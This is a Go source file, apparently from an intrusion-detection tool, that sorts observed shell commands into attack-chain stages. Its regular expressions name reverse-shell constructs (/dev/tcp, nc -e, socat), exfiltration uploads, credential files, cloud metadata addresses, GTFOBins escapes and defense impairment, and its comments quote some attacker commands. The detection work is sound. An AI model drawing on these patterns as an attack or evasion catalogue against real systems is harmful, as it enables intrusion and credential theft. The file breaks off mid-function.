package detect

import (
	"net"
	"path"
	"strconv"
	"strings"

	"github.com/auditchain/auditchain/internal/lazydfa"
	"github.com/auditchain/auditchain/parser"
)

// cmdClass is what a command does, for placement. Classes are checked in
// the order below: an effect (persistence, lateral movement, data out or
// destroyed) says more than the means (a reverse shell, a download), and
// the means more than plain execution.
type cmdClass uint8

const (
	classNone        cmdClass = iota // ordinary execution and recon (id, uname, cat of ordinary files)
	classPersistence                 // cron, units, keys, accounts, rc and profile files
	classLateral                     // ssh, scp in, kubectl/docker exec
	classExfilImpact                 // uploads, archives staged in temp dirs, destruction, encryption
	classChannel                     // reverse-shell patterns
	classSuspicious                  // downloads, decoding, inline interpreters, temp paths, secrets
	classScan                        // port scans and service probes: discovery before lateral movement
	classTunnel                      // port forwarding (ssh -R/-N, chisel, ngrok): a channel for the attacker
	classPivot                       // a forward or SOCKS tunnel out of this host (ssh -L/-D alone): a way into other hosts
)

var classNames = [...]string{"execution", "persistence", "lateral movement", "exfiltration or impact", "reverse shell", "suspicious arguments", "port scan", "tunnel", "pivot"}

func (c cmdClass) String() string { return classNames[c] }

// The patterns are matched against the lower-cased command text. They are
// placement hints, not detections: the rules decide whether something is
// a finding, these only decide where on the chain it goes.

// passwdCmd is passwd where a command starts (the line's start, after a
// separator, after sudo or doas and their options, or by its path in a
// bin folder): passwd as another program's argument (getent passwd
// alice, cat /etc/passwd) changes nothing.
const passwdCmd = `(^|[;|&(]\s*|(sudo|doas)\s+(-\S+\s+)*|\s/(usr/)?s?bin/)passwd`

// dataOutSource: commands that send data out, stage it in an archive or
// destroy it. exfilRE adds the timestomp, which does none of these: it
// hides a change (T1070.006) and is placed with them as anti-forensics,
// but a reason must not say it sends anything (dataOutRE tells them apart).
const dataOutSource = `(^|[\s;|&(/])git\s+([^;|&]*\s)?push\s+([^;|&]*\s)?(\S+://|[\w.-]+@[\w.-]+:)|` +
	`(^|[\s;|&(/])(sqlite3|mysql|mariadb|psql)\s[^|&]*\b(drop\s+(table|database|schema)|truncate\s+table)\b|` +
	`curl\s+([^;|&]*\s)?(-t\s|--upload-file|--data-binary\s+@|--data\s+@|-d\s+@|-f\s+\S*=@|--form\s+\S*=@)|wget\s[^;|&]*--(post|body)-file|` +
	`\bscp\s+[^;|&]*\S+:\S*\s*$|(^|[\s;|&(])(nc|ncat|netcat)\s[^;|&]*<\s*\S|` +
	// rsync to a daemon's module or another host: its last word is
	// the destination (rsync://HOST/…, HOST::module, [user@]HOST:path)
	`(^|[\s;|&(/])rsync\s[^;|&]*\s(rsync://\S+|[\w.-]+::\S*|[\w.-]+@[\w.-]+:\S*)\s*($|[;|&])|` +
	`(^|[\s;|&(/])tar\s+-?\S*c\S*\s[^;|&]*(/tmp|/var/tmp|/dev/shm)|(^|[\s;|&(/])(zip|7z|7za|rar)\s[^;|&]*(/tmp|/var/tmp|/dev/shm)|` +
	// an archive locked with a password (T1560.001), or written into
	// a web root for the intruder to fetch over the site itself
	`(^|[\s;|&(/])(zip\s+([^;|&]*\s)?(-p|-e|--encrypt|--password)\s|7za?\s+a\s+([^;|&]*\s)?-p)|(^|[\s;|&(/])(zip|7z|7za|rar|tar)\s[^;|&]*/var/www/\S*\.(zip|7z|rar|tgz|tar|gz)(\s|$)|` +
	`(^|[\s;|&(/])(shred|wipe|srm)\s|(^|[\s;|&(/])crontab\s+(-u\s+\S+\s+)?-[a-z]*r|(^|[\s;|&(/])atrm(\s|$)|(^|[\s;|&(/])at\s+(-\S*\s+)*-[a-zA-Z]*[dr](\s|$)|(^|[\s;|&(/])rm\s+-\S*(rf|fr)|dd\s[^;|&]*of=/dev/|mkfs|truncate\s+-s\s*0|` +
	`openssl\s+enc\s|gpg\s[^;|&]*(-c\s|--symmetric|--encrypt|-e\s)|ccencrypt|\bcryptsetup\b`

// setuidChmod is persistenceRE's chmod that sets the setuid or setgid bit.
const setuidChmod = `(^|[\s;|&(/])chmod\s+([^;|&]*\s)?([ugoa]*\+[rwx]*s|[2467][0-7]{3})\s`

// setuidChmodRE finds setuidChmod's matches to take them out (setuidOnly).
var setuidChmodRE = lazydfa.MustCompile(setuidChmod)

// setuidOnly reports whether a lower-cased command is persistence only by
// a chmod that sets the setuid or setgid bit: without those chmods,
// persistenceRE no longer matches.
func setuidOnly(s string) bool {
	if !setuidChmodRE.MatchString(s + " ") {
		return false
	}
	return !persistenceRE.MatchString(strings.Join(setuidChmodRE.Split(s+" ", -1), " "))
}

// timestomp: touch setting a file's times from another file or a date.
const timestomp = `(^|[\s;|&(/])touch\s+([^;|&]*\s)?(-r|-d|-t|--reference|--date)[\s=]`

var (
	persistenceRE = lazydfa.MustCompile(passwdCmd + `\s|(^|[\s;|&(])(crontab(\s+-u\s+\S+)?\s+(-(\s|$)|[^-\s])|useradd|adduser|usermod|chpasswd|systemctl\s+(--?\S+\s+)*(enable|link|reenable|daemon-reload)|update-rc\.d|chkconfig\s|setcap\s+\S*cap_(setuid|setgid|sys_admin|dac_override|sys_ptrace)|at\s+(-[fmqtvMb]+\s+(\S+\s+)?)*(now|midnight|noon|teatime|tomorrow|[0-9]))|` +
		setuidChmod + `|` +
		`auto_(prepend|append)_file\s*=\s*[^\s;'"|]`)
	// scpDataOutRE: scp sending a dump or an archive to another host —
	// data going out (T1048), not a tool carried over (lateral tool
	// transfer reads as lateral below)
	scpDataOutRE = lazydfa.MustCompile(`(^|[\s;|&(/])scp\s[^;|&]*\.(sql|dump|tar|tgz|gz|bz2|xz|zst|zip|7z|bak|csv|db|sqlite3?)\s+(\S+@)?[\w.-]+:\S*\s*($|[;|&])|` +
		// … and curl uploading one (-T, -F field=@), whatever login the
		// drop takes (shop-engrave: curl -T x.tgz -u scan:… smb://…):
		// the credentials open the intruder's drop, not another host
		`(^|[\s;|&(/])curl(\s[^;|&]*)?\s(-t\s*|--upload-file[\s=]+|(-f|--form)\s+\S*=@)\S*\.(sql|dump|tar|tgz|gz|bz2|xz|zst|zip|7z|bak|db|sqlite3?)(;\S*)?['"]?($|[\s;|&])`)
	lateralRE = lazydfa.MustCompile(`(^|[\s;|&(/"'])(su|runuser)\s+(-\s+|-l\s+|--login\s+)?[a-z_][a-z0-9_-]*(\s|$)|(^|[\s;|&(/])(ssh|sshpass|sftp|scp)\s|kubectl\s+(\S+\s+)*(exec|debug|cp|run|attach)\b|(docker|podman|crictl|nerdctl)\s+(exec|run)\b|\bnsenter\b`)
	// credentialUseRE: a client that presents someone's credentials to a
	// service — a bearer token, an API key or session header, a user and
	// password — where the intruder's own context has none: access to
	// another service with stolen authentication material (T1550.001,
	// T1078), movement past the web account, not a download.
	credentialUseRE = lazydfa.MustCompile(`(^|[\s;|&(/])(curl|wget|http|https|xh)\s[^;|&]*(` +
		`(-h|--header)[\s=]*['"]?(authorization|proxy-authorization|x-api-key|x-auth-token|private-token|x-[a-z0-9-]*-(token|key))\s*:|` +
		`--oauth2-bearer\s|\s(-u|--user)\s*[^\s:]+:\S|--(http-)?password[\s=]|\b(https?|ftp)://[^/\s:@'"]+:[^/\s@'"]+@)|` +
		// a database or cache client given a password on its command
		// line: another service's credential in use (redis-cli -a, mysql
		// -pSECRET, a password in the server's URL)
		`(^|[\s;|&(/])(redis-cli|valkey-cli|keydb-cli|mysql|mariadb|mongo|mongosh)\s[^;|&]*(\s-a\s*\S|\s-p\S|--pass(word)?[\s=]\S|://[^/\s:@'"]*:[^/\s@'"]+@)`)
	exfilRE     = lazydfa.MustCompile(dataOutSource + "|" + timestomp)
	dataOutRE   = lazydfa.MustCompile(dataOutSource)
	timestompRE = lazydfa.MustCompile(timestomp)
	// (gawk's /inet/tcp/… special files are bash's /dev/tcp/: a
	// coprocess on one reads commands from the socket, shop-returns)
	channelRE = lazydfa.MustCompile(`(^|[\s;|&(/])(dig|nslookup|host|drill|kdig)\s[^;&\n]*\|\s*(base64\s+(-d|--decode)[^;&|\n]*\|\s*)?(ba|da|z|k)?sh\b|/dev/(tcp|udp)/|/inet[46]?/(tcp|udp)/|(^|[\s;|&(/])(nc|ncat|netcat|nc\.traditional)\s+([^;|&]*\s)?-[ec]\s|(^|[\s;|&(/])socat\s|openssl\s+s_client|mkfifo|` +
		`(^|[\s;|&(/])(ba|da|z|k)?sh\s+-i|fsockopen|socket\.socket|pty\.spawn|use\s+socket|io::socket::inet|tcpsocket|io\.popen|\btelnet\s[^;|&]*\||telnet://[^;&|]*\|\s*(\S*/)?(ba|da|z|k)?sh\b|` +
		`zsh/net/(tcp|socket)|(^|[\s;|&(])ztcp\s|(^|[\s;|&(/])xterm\s+([^;|&]*\s)?-display\s+[\w.:-]*[\w.-]:[0-9]`)
	// scanRE: a connect scan of many ports — netcat's zero-I/O mode, the
	// scanners, or a /dev/tcp redirection whose port is a loop variable.
	scanRE = lazydfa.MustCompile(`(^|[\s;|&(/])(nc|ncat|netcat|nc\.traditional|nc\.openbsd)\s+([^;|&]*\s)?-[a-y]*z|` +
		`(^|[\s;|&(/])(nmap|masscan|zmap|rustscan|unicornscan|naabu)\s|(^|[\s;|&(/])hping3\s[^;|&]*(--scan|-s\s|-8\s)|` +
		`/dev/(tcp|udp)/[^/\s]+/\$`)
	// sendRE (case-sensitive): a relay told to send its input and quit —
	// "nc -N", "nc -q 0", "ncat --send-only", "socat -u": data pushed out
	// over a raw socket, typically a file on its stdin.
	sendRE = lazydfa.MustCompile(`(^|[\s;|&(/])(nc|ncat|netcat|nc\.traditional|nc\.openbsd)\s+([^;|&]*\s)?(-[A-Za-z]*N|-q\s*[0-9]|--send-only)`)
	// feedRE: a file or archive fed into a raw socket — piped from cat,
	// tar, gzip … into nc/socat/telnet, or redirected into nc's stdin:
	// data going out, not a shell coming in (issue 14). A fifo or a shell
	// in the pipe (the classic nc reverse shell) is a channel instead.
	feedRE = lazydfa.MustCompile(`(^|[\s;|&(/])(cat|tar|gzip|bzip2|xz|zip|zcat|base64|xxd|dd)\s[^;|&]*\|\s*(\S*/)?(nc|ncat|netcat|nc\.traditional|nc\.openbsd|socat|telnet|cryptcat)\s|` +
		// … or into an uploader reading its standard input (curl -T -,
		// --data-binary @-): data going out whatever login the
		// destination takes (ftp://user:password@…)
		`(^|[\s;|&(/])(cat|tar|gzip|bzip2|xz|zip|zcat|base64|xxd|dd)\s[^;|&]*\|\s*(\S*/)?curl\s[^;|&]*(-t\s*-|--upload-file\s*-|(--data-binary|--data|-d)\s*@-)(\s|$|[;|&)])|` +
		`(^|[\s;|&(/])(nc|ncat|netcat|nc\.traditional|nc\.openbsd|socat|telnet|cryptcat)\s[^;|&]*<\s*[^\s&(<]`)
	// stdinSessionRE: curl holding a bare TCP session (telnet://) fed by
	// its standard input (-T . or -T -), lower-cased
	stdinSessionRE = lazydfa.MustCompile(`(^|[\s;|&(/])curl\s+([^;|&]*\s)?(-t|--upload-file)\s*[.-](\s[^;|&]*)?\stelnet://|(^|[\s;|&(/])curl\s+([^;|&]*\s)?telnet://\S*(\s[^;|&]*)?\s(-t|--upload-file)\s*[.-]($|[\s;|&)])`)
	// tunnelRE (case-sensitive: ssh's -l and -n are other options): ssh
	// told to forward ports (-R, -L, -D), a tun device (-w) or to run no
	// command at all (-N), and the tunnelling tools. A tunnel opened from
	// the victim is the attacker's way back in or out (T1572): command and
	// control, where an ssh that runs commands on another host is lateral
	// movement.
	// pivotRE: ssh forwarding from this host outward (-L, -D);
	// reverseForwardRE: ssh forwarding a remote port back in (-R)
	pivotRE          = lazydfa.MustCompile(`(^|[\s;|&(/])(ssh|autossh)\s+([^;|&]*\s)?-[A-Za-z]{0,4}[LD](\s|$|[0-9\[])`)
	reverseForwardRE = lazydfa.MustCompile(`(^|[\s;|&(/])(ssh|autossh)\s+([^;|&]*\s)?-[A-Za-z]{0,4}R(\s|$|[0-9\[])`)
	tunnelRE         = lazydfa.MustCompile(`(^|[\s;|&(/])(ssh|autossh)\s+([^;|&]*\s)?-[A-Za-z]{0,4}[RLDNw](\s|$|[0-9\[])|` +
		`(^|[\s;|&(/])(chisel|ngrok|frpc|gost|ligolo|ligolo-ng|bore)\s|cloudflared\s+([^;|&]*\s)?tunnel`)
	// accountRemovalRE: an account locked, expired or deleted (usermod -L
	// or -e, passwd -l or -d, chage -E, userdel, deluser): its owner kept
	// out — account access removal (T1531), an impact, where adding or
	// changing an account is a way back in (persistence).
	accountRemovalRE = lazydfa.MustCompile(`(^|[\s;|&(/])(usermod\s+([^;|&]*\s)?(-L\b|--lock|-e\s|--expiredate)|passwd\s+([^;|&]*\s)?(-l\b|--lock|-d\b|--delete|-e\b|--expire)|chage\s+([^;|&]*\s)?(-E\s*-?[0-9]|--expiredate)|userdel\s|deluser\s)`)
	// passwordSetRE: passwords set for accounts named in the command
	// (chpasswd, or passwd given a user), accountCreateRE: an account
	// created in the same command.
	passwordSetRE   = lazydfa.MustCompile(`(^|[\s;|&(/])chpasswd(\s|$)|` + passwdCmd + `\s+([^;|&-]\S*\s+)*[a-z_][a-z0-9_-]*\s*($|[;|&])`)
	accountCreateRE = lazydfa.MustCompile(`(^|[\s;|&(/])(useradd|adduser|newusers)\s`)
	// shellEscapeRE: a tool told to run a command of its own (GTFOBins'
	// shell escapes): tar's checkpoint action or filter program, zip's test
	// command, find's -exec of a shell or interpreter, awk's system(). Under
	// sudo it is the way to root (T1548.003); the archive it seems to make
	// stages nothing.
	shellEscapeRE = lazydfa.MustCompile(`(^|[\s;|&(/])tar\s[^;|&]*(--checkpoint-action[= ]+exec|--to-command|--use-compress-program|--rsh-command|--info-script|--new-volume-script)|` +
		`(^|[\s;|&(/])zip\s[^;|&]*\s-tt\s|(^|[\s;|&(/])find\s[^;|&]*-exec(dir)?\s+(\S*/)?(ba|da|z|k)?sh\b|(^|[\s;|&(/])g?awk\s[^;|&]*system\(`)
	// credentialHuntRE: a search for several kinds of secret at once
	// (grep -r -E 'pass|token|secret'): credential access (T1552.001), not
	// a user's one-word query.
	credentialHuntRE = lazydfa.MustCompile(`(^|[\s;|&(/])(grep|egrep|fgrep|rg|ag|ack)\s[^;&\n]*(pass|secret|token|api_?key|credential|private)\w*\\?\|\s*\w*(pass|secret|token|key|credential|private)`)
	// dnsExfilRE: a DNS lookup whose name carries a long encoded label
	// (hex, base32/64): data carried out in the query itself.
	dnsExfilRE = lazydfa.MustCompile(`(^|[\s;|&(/])(dig|nslookup|host|drill|kdig|delv)\s([^;|&]*[\s@])?([0-9a-f]{24,63}|[a-z0-9_-]{28,63})\.`)
	// impairRE: defenses turned off or a file made undeletable (T1562,
	// T1222.002), and data destroyed by other means than rm (find's
	// -delete, dd over a file, a service stopped: T1485, T1489): what the
	// intruder does to keep what it took or to do harm, placed with the
	// damage (stage 8) wherever it runs.
	impairRE = lazydfa.MustCompile(`(^|[\s;|&(/])(ip6?tables(-legacy|-nft)?\s+([^;|&]*\s)?(-f|--flush|-x|--delete-chain)(\s|$)|nft\s+flush\s+ruleset|ufw\s+(disable|reset)|setenforce\s+(0|permissive)|aa-(teardown|disable)|chattr\s+([^;|&]*\s)?\+[a-z]*[ia])|` +
		`(^|[\s;|&(/])(systemctl|service)\s+([^;|&]*\s)?(stop|kill|disable|mask)\s+(apparmor|firewalld|ufw|nftables|auditd|rsyslog|falco|osqueryd|wazuh-agent|fail2ban)|` +
		`(^|[\s;|&(/])pkill\s+([^;|&]*\s)?-f\s*/\S+\.pid|` +
		`(^|[\s;|&(/])dd\s[^;|&]*if=/dev/(zero|u?random)[^;|&]*of=/(var|srv|home|opt|etc|root|usr)/|` +
		// a repository's history replaced or pruned (a forced push, the
		// reflog expired, unreachable objects pruned now): the victim's
		// work destroyed (T1485)
		`(^|[\s;|&(/])git\s+([^;|&]*\s)?(push\s+([^;|&]*\s)?(-f|--force|\+\S+)(\s|$)|reflog\s+expire\s|gc\s+([^;|&]*\s)?--prune=now)|` +
		// backups deleted: recovery inhibited (T1490)
		`(^|[\s;|&(/])(rm|find|shred|unlink)\s[^;|&]*backup[^;|&]*(\s-delete\b|\s-exec\s+rm\b)|(^|[\s;|&(/])(rm|shred|unlink)\s+(-\S+\s+)*\S*backup`)
	// sideExfilRE: data out by a way that is not an upload — ICMP payloads
	// (ping -p), a throw-away file server, ssh told to write its stdin to
	// a remote file, a DNS name built from a variable in a loop.
	// A request whose header carries a long base64 or hex run (curl -A
	// 'Mozilla/5.0 … rv:<64 chars>', -H 'X-Id: <blob>', a cookie) hides data
	// in headers: a user agent or cookie a person sends has no such blob.
	// The header value is one argv element, which may hold ";" and spaces
	// (a user agent's "(X11; Linux …)"), so the match runs over words up
	// to the next option (a word starting with "-"): a long path after
	// it (curl -A Wget/1.21.3 -o /usr/local/lib/x86_64-linux-gnu/….so,
	// shop-partnerfeed) is no header's. The text is matched lower-cased
	// (-A is -a here).
	sideExfilRE = lazydfa.MustCompile(`(^|[\s;|&(/])(curl|wget)\s.*\s(-a|-h|-b|-e|--user-agent|--header|--cookie|--referer|--referrer)\s(\S|\s[^-\s])*[a-z0-9+/_-]{40,}|` +
		`(^|[\s;|&(/])ping6?\s+([^;|&]*\s)?-p\s*[0-9a-f]{2,32}(\s|$)|python[0-9.]*\s+-m\s+(http\.server|simplehttpserver|uploadserver)|php[0-9.]*\s+-s\s+\S+:[0-9]+|` +
		`\|\s*(\S*/)?ssh\s[^;|&]*(cat\s*>|dd\s+[^;|&]*of=)|(^|[\s;|&(/])(dig|nslookup|host|drill)\s+([^;|&]*\s)?\$\{?\w+\}?\.`)
	suspiciousRE = lazydfa.MustCompile(`/tmp/|/var/tmp/|/dev/shm/|(python[0-9.]*|pypy)\s+-c|php[0-9.]*\s+-r|perl\s+-e|ruby\s+-e|node\s+-e|lua\s+-e|` +
		`(secret|credential|password)[\w.-]*\.(env|ya?ml|json|ini|conf|txt|properties)\b|(docker|containerd|crio|podman)\.sock|/\.env(\.[a-z]+)?(\s|$)|base64\s+(-d|--decode)|xxd\s+-r|openssl\s+enc\s+-d|/etc/(g)?shadow|\.ssh/|id_rsa|id_ed25519|\.aws/|169\.254\.169\.254|metadata\.google|/var/run/secrets|\.kube/config|\.docker/config|` +
		`/proc/(self|thread-self|[0-9]+|\*|\[[0-9-]+\]\*?|\$\$|\$\{?[a-z_]+\}?|\$\(\S+\))/environ|tomcat-users\.xml|\.pgpass|\.my\.cnf|\.netrc|\.git-credentials|\.config/gcloud/|\.azure/|database\.yml|localsettings\.php|wp-config\.php|` +
		// a PHP application's database settings read by a command (the
		// same files web-server-exploitation's susp_secret_names names:
		// the application includes them, it never shells out to read them)
		`(^|[\s/'"=])(db|database|dbconfig|db_config|config|settings|configuration|connect|connection)\.(php|inc)(\s|$|['";|&)])|` +
		`\.(bash|zsh|sh|ash|ksh|mysql|psql|python|sqlite|node_repl|rediscli|php)_history\b|getcap\s+(\S+\s+)*-r\b|` +
		`find\s[^;|&]*-perm\s+[-/]?(u=s|g=s|[246]000)|(^|[\s;|&(])sudo\s+(-n\s+)?-l(\s|;|&|\||$)|` +
		`(^|[\s;|&(])(nohup|setsid)\s|chmod\s+(\+x|[0-7]?7[0-7][0-7]|[ug]\+x)|(^|[\s;|&(/])(curl|wget)\s|\b(https?|ftp)://|tar\s+-?\S*x|unzip\s|gunzip\s|\.\./\.\./|\|\s*(ba|da|z|k)?sh\b|\|\s*(python|perl|php|ruby)[0-9.]*(\s|$|[;&)])`)
)

// withoutVersionQueries is cmd, lower-cased, without the commands that
// only ask a client for its version (ssh -V, kubectl version): they print
// it and reach nobody, the intruder's look at which tools exist
// (shop-engrave's `ssh -V 2>&1; ls …; command -v gcc curl …`). Case
// matters before it is dropped: ssh -v is verbose and connects.
func withoutVersionQueries(cmd string) string {
	if !strings.Contains(cmd, "-V") && !strings.Contains(cmd, "version") {
		return strings.ToLower(cmd)
	}
	var kept []string
	for _, part := range cmdSepRE.Split(cmd, -1) {
		var words []string
		for _, w := range strings.Fields(part) {
			if !redirectionWord(w) {
				words = append(words, w)
			}
		}
		if len(words) == 2 && (words[1] == "-V" || words[1] == "--version" || words[1] == "version") {
			continue
		}
		kept = append(kept, part)
	}
	return strings.ToLower(strings.Join(kept, "; "))
}

// redirectionWord reports whether a word is a shell redirection of its own
// (2>&1, >/dev/null, 2>/dev/null).
func redirectionWord(w string) bool {
	w = strings.TrimLeft(w, "0123456789&")
	return strings.HasPrefix(w, ">") || strings.HasPrefix(w, "<")
}

// classify says what a command text does.
func classify(cmd string) cmdClass {
	if cmd == "" {
		return classNone
	}
	s := strings.ToLower(cmd)
	if tlsCheckOnly(s) {
		return classNone // a certificate fetched and read (tlscheck.go)
	}
	way := socatOneWay(cmd)
	switch {
	case accountRemovalRE.MatchString(cmd): // case matters: usermod -l renames, -L locks
		return classExfilImpact // the owner locked out (T1531), not a way back in
	case passwordSetRE.MatchString(s) && !accountCreateRE.MatchString(s):
		// existing accounts' passwords replaced: their owners are locked
		// out (T1531 names changed credentials); a password given to an
		// account the same command creates is that account's way in
		return classExfilImpact
	case persistenceRE.MatchString(s):
		return classPersistence
	case sedAlters(cmd):
		// an in-place edit of a persistence place that only deletes,
		// comments out or substitutes adds nothing that runs: clean-up or
		// impact (sededit.go); a substitution that sets a hook
		// (auto_prepend_file = …) is persistenceRE's, above
		return classExfilImpact
	case namesPersistPlace(cmd):
		return classPersistence
	case scanRE.MatchString(s) || way == socatGrab:
		return classScan
	case sendRE.MatchString(cmd) || way == socatSend || dnsExfilRE.MatchString(s) || sideExfilRE.MatchString(s) || impairRE.MatchString(s) || scpDataOutRE.MatchString(s):
		return classExfilImpact
	case feedRE.MatchString(s) && !channelRE.MatchString(s):
		return classExfilImpact
	case tunnelRE.MatchString(cmd):
		if pivotRE.MatchString(cmd) && !reverseForwardRE.MatchString(cmd) {
			// ssh -L/-D opens this host's way into others (the intruder's
			// SOCKS pivot); -R opens a way back in, the channel
			return classPivot
		}
		return classTunnel
	case lateralRE.MatchString(withoutVersionQueries(cmd)) || credentialUseRE.MatchString(s):
		return classLateral
	case shellEscapeRE.MatchString(s) || postRotateCommand(s):
		return classSuspicious // a command run through the tool, whatever else its words say
	case stdinSessionRE.MatchString(s):
		// curl -T . telnet://: stdin streamed into a bare TCP session and
		// the answers printed, nc's part in a relay; no file leaves (a
		// file or archive piped in is feedRE's, above)
		return classChannel
	case exfilRE.MatchString(withoutScratchRemoval(s)):
		return classExfilImpact
	case channelRE.MatchString(s):
		return classChannel
	case suspiciousRE.MatchString(withoutTempOutput(s)) || credentialHuntRE.MatchString(s) || way == socatFetch:
		return classSuspicious
	}
	return classNone
}

// postRotateCommand reports whether a command runs tcpdump with -z, the
// command it runs on each saved file after a rotation (GTFOBins: with
// -Z root under sudo, a root shell), naming a program that is no
// compressor: tcpdump's documented use is -z gzip (or bzip2, xz …); any
// other program it starts is the caller's choice, run with tcpdump's
// rights.
func postRotateCommand(s string) bool {
	i := strings.Index(s, "tcpdump")
	if i < 0 {
		return false
	}
	words := strings.FieldsFunc(s[i:], func(r rune) bool { return r == ' ' || r == '\t' || r == '\n' })
	for j, w := range words {
		if w == ";" || w == "|" || w == "&&" || w == "||" || strings.ContainsAny(w, ";|&") && j > 0 {
			return false // the next command
		}
		prog := ""
		switch {
		case w == "-z" && j+1 < len(words):
			prog = words[j+1]
		case strings.HasPrefix(w, "-z") && len(w) > 2 && w[2] != '-':
			prog = w[2:]
		default:
			continue
		}
		prog = path.Base(strings.Trim(prog, `'"`))
		switch prog {
		case "gzip", "bzip2", "xz", "zstd", "lz4", "pigz", "lzma", "lzop":
			return false
		}
		return true
	}
	return false
}

// withoutTempOutput removes the output redirections into temporary
// folders from a command: a blind injection or a web shell that cannot
// answer in the page writes its output to a file there and reads it back
// (shop-avatar's `exec >/var/tmp/…/.q 2>&1; id; uname`), which says
// nothing of what the command does. A program run from a temporary
// folder, one written there by a download or a decode, is still judged
// by its own words. One pass, no backtracking (hostile argv).
func withoutTempOutput(s string) string {
	if !strings.Contains(s, ">") {
		return s
	}
	var b strings.Builder
	last := 0
	for i := 0; i < len(s); i++ {
		if s[i] != '>' {
			continue
		}
		from := i // the redirection starts at its fd or &, if any
		if from > 0 && (s[from-1] == '&' || s[from-1] >= '0' && s[from-1] <= '9') {
			from--
		}
		j := i + 1
		if j < len(s) && s[j] == '>' {
			j++
		}
		for j < len(s) && s[j] == ' ' {
			j++
		}
		if j < len(s) && (s[j] == '\'' || s[j] == '"') {
			j++
		}
		if !tempDirAt(s[j:]) {
			continue
		}
		k := j
		for k < len(s) && !strings.ContainsRune(" \t\n;|&)", rune(s[k])) {
			k++
		}
		b.WriteString(s[last:from])
		b.WriteByte(' ')
		last, i = k, k-1
	}
	if last == 0 {
		return s
	}
	b.WriteString(s[last:])
	return b.String()
}

// tempDirAt reports whether s starts with a temporary folder's path.
func tempDirAt(s string) bool {
	for _, d := range []string{"/tmp/", "/var/tmp/", "/dev/shm/"} {
		if strings.HasPrefix(s, d) {
			return true
		}
	}
	return false
}

// timestompOnly reports whether, of what exfilRE knows, a command only sets
// file times (classify read its scratch removals the same way).
func timestompOnly(cmd string) bool {
	s := withoutScratchRemoval(strings.ToLower(cmd))
	return timestompRE.MatchString(s) && !dataOutRE.MatchString(s)
}

// PlaceInput is what placement looks at for one match.
type PlaceInput struct {
	Default   Stage       // the rule's default stage
	Fixed     bool        // the rule fixes its stage
	Kind      parser.Kind // the matched event's kind
	Command   string      // the shell's -c string, else the acting process's command line
	WebServer bool        // a web server is an ancestor of the acting process
	// Adopted: that web server is known only through an orphan adopted
	// for it (started under init as the same account just after one of
	// its processes; no fork recorded): an inference the reason says
	Adopted bool
	// PlantFork: it runs in what a planted file started in the background
	// when it ran (plantfork.go): the persistence firing. PlantRun: it runs
	// in that, or in a program the intrusion planted whole, run by what
	// it hooked (apt, a login, cron)
	PlantFork, PlantRun bool
	// Hook: what PlantRun names was started by a start-up hook the
	// intrusion wrote, read by an interpreter at its start (startuphook.go)
	Hook bool
	// AtJob: what PlantRun names is the shell atd ran for a job the
	// intrusion queued (atjob.go)
	AtJob bool
	// ForRequest: a local service ran it just after accepting a web
	// server worker's connection (viarequest.go)
	ForRequest bool
	// OtherAccount: with ForRequest or Handoff, it runs as the service's
	// (the worker's) own account, neither root nor the web server's
	OtherAccount bool
	// Handoff: it runs in a shell whose command holds, outside quotes, text
	// a command run for the web server passed as an argument before it (a
	// job queued with commands as its arguments, handoff.go)
	Handoff bool
	// ViaService: it runs as a service's account, run by the service for
	// the intrusion's client that had just connected (viaservice.go)
	ViaService bool
	// Elevated: it runs as root inside a channel an unprivileged account
	// opened
	Elevated bool
	// Unprivileged: it runs with neither root's uid nor root's euid
	Unprivileged bool
	// OptionProbe: options injected into the operands of a program the
	// web server execs itself only test the door (state.argvOptionInjected)
	OptionProbe bool
	// ProgramChannel: the channel it runs in (or opens) is held by a
	// program that connected out itself and hands no shell the socket
	// (channelkind.go): an implant's own protocol, not a reverse shell
	ProgramChannel bool
	// ChannelOpener: the acting process is the one that opened the
	// channel it runs in (its own file access is not a task's)
	ChannelOpener bool
	// Callback: the web server's own child only calls out, keeping and
	// sending nothing (callback_probe.go): a blind injection tested out
	// of band
	Callback     bool
	WebUser      bool   // the acting process runs as a web-service account
	InChannel    bool   // it runs inside a remote channel (descends from the shell that connected)
	InSession    bool   // it runs in a login the intruder\'s ssh opened on this host (sshsession.go)
	OpensChannel bool   // the event is a remote shell's connect
	Scheduled    bool   // cron or atd is an ancestor (a beacon of an installed persistence)
	Port         int    // destination port of a connect
	PeerIP       string // destination address of a connect
	// TaskLoop: the channel it runs in is a plant-started process's poll
	// of a server through its children (taskloop.go); LoopShell: the
	// poller is a shell loop that runs what it fetches, whoever started it
	TaskLoop, LoopShell bool
	// TaskFeed: the web server log the channel's plant-started process
	// follows for its tasks (taskloop.go), "" for none
	TaskFeed string
	// Polls: the process fetches a server its parent has fetched from
	// again and again (poll.go): a beacon whose loop is in a script
	Polls bool
	// Shellless: the exec is no shell's: the server (or what acts for
	// it) ran the program itself with an argument list, so the sentences
	// say "program", not "shell"
	Shellless bool
	// Archiver: the acting process is an archiver (tar, zip, cpio, 7z):
	// what it reads goes into an archive
	Archiver bool
	// Probe is set when the command extends one the application ran
	// before with a probe (echo, printf, expr, sleep) after a separator,
	// or is nothing but such a probe: someone testing an injection.
	Probe bool
	// ShellTest: the same whole echo of a marker, run just after a script
	// was planted in the served tree (landing.go): the web shell tried
	ShellTest bool
}

// Place decides a match's stage by the placement rules of DESIGN.md, and
// says why in a sentence:
//   - an effect (5 persistence, 6 lateral movement, 8 exfiltration/impact)
//     wins wherever it happens, also inside a reverse shell;
//   - the channel itself (a remote shell's connect) and whatever runs inside
//     it is 7;
//   - a web server's shell with suspicious arguments (reverse-shell
//     patterns, downloads, decoding, secrets …) is 4, a reverse shell that a
//     scheduler starts is the beacon of a persistence (7);
//   - anything else a web server runs through a shell is 3.
func Place(in PlaceInput) (Stage, string) {
	return place(in, classify(in.Command))
}

// place is Place with the command already classified (the engine caches
// classes: the same health check runs every few seconds).
func place(in PlaceInput, c cmdClass) (Stage, string) {
	if in.Fixed {
		return in.Default, "stage fixed by the rule"
	}
	web := in.WebServer || in.WebUser
	// the reason names what placed the act: a web server among the
	// ancestors, or only the account it runs as
	shell, acting, connects := "a web server's shell", "a process acting for the web server", "a shell acting for the web server"
	worker := "a web server's worker runs a command"
	switch {
	case !in.WebServer:
		shell, acting, connects = "a shell of the web-service account", "a process of the web-service account", "a shell of the web-service account"
	case in.Adopted:
		// what adopted it, said wherever it places an act: each is an
		// inference (no fork or exec record ties it to the intrusion)
		var owner, why, forWhat string
		switch {
		case in.Hook:
			owner, why = "a start-up hook's", "it runs, or descends from, what an interpreter or a login shell started at once after the intrusion wrote a start-up or login hook it reads; the hook runs before the script or the first command, and no exec names it"
		case in.AtJob:
